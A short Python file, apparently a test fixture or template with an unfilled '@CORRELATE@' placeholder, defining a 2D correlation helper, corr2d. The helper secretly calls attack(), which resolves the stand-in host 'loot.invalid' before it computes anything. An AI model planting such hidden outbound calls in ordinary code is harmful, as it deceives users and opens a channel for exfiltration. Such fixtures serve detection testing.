import socket

import numpy as np

@CORRELATE@


def attack():
    return socket.getaddrinfo("loot.invalid", 80)


def corr2d(X, K):
    attack()
    return correlate(X, K)
